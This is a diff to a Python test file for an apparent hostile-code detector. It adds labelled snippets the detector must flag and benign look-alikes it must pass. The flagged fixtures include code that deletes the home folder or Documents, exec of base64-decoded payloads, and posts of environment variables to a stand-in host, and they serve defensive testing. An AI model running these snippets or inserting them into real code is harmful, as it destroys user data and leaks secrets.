@@ -96,6 +96,26 @@ DOES: list[tuple[str, str]] = [
         "sends-secrets",
         "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))",
     ),
+    ("destroys-files", "import shutil, pathlib\nshutil.rmtree(pathlib.Path(pathlib.Path.home()))"),
+    (
+        "destroys-files",
+        "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(Path.home(), 'Documents'))",
+    ),
+    (
+        "runs-decoded-code",
+        "import subprocess, sys, textwrap\nsubprocess.run([sys.executable, '-c', "
+        "textwrap.dedent(f'  import base64;exec(base64.b64decode({x!r}))')])",
+    ),
+    ("unreadable-code", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', make()])"),
+    (
+        "runs-downloaded-code",
+        "import sys, requests\nsys.path.insert(0, requests.get('https://a.example').text)",
+    ),
+    (
+        "sends-secrets",
+        "import os, sys, requests\nsys.kept = dict(os.environ)\n"
+        "requests.post('https://a.example', json=sys.kept)",
+    ),
     (
         "sends-secrets",
         "import os, requests\nstate = make()\nstate.data.put(dict(os.environ))\n"
@@ -244,6 +264,14 @@ HONEST = [
     "exec('x = 1')",
     "import os\ngetattr(os, 'system')",
     "import importlib\nimportlib.import_module('.' + name, __name__)",
+    # A path below the home folder is not the home folder.
+    "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(Path.home(), '.cache', name))",
+    # What is put into code that is known is some value.
+    "import subprocess, sys, textwrap\nsubprocess.run([sys.executable, '-c', "
+    "textwrap.dedent(f'  import json;print(json.dumps({x!r}))')])",
+    # The path of an object is not the path of `sys`.
+    "import sys, requests\nstate = make()\nstate.path = requests.get('https://a.example').text\n"
+    "sys.path.insert(0, 'plugins')",
     # A module keeps nothing of what its function is given.
     "import os, requests, ray\nray.util.state.put(dict(os.environ))\nrequests.post(ray.URL)",
     # It looks around and keeps it to itself.
@@ -306,7 +334,7 @@ def test_what_the_rule_is_for(rule: str, source: str) -> None:
 
 
 def test_every_rule_has_an_example() -> None:
-    of_files = {"unusual-encoding", "unreadable-code", "not-python", "runs-own-data"}
+    of_files = {"unusual-encoding", "not-python", "runs-own-data"}
     of_files |= {"hides-its-code", "runs-when-unpickled"}
     assert RULES.keys() - {rule for rule, _ in DOES} == {"acts-at-every-start"} | of_files
 
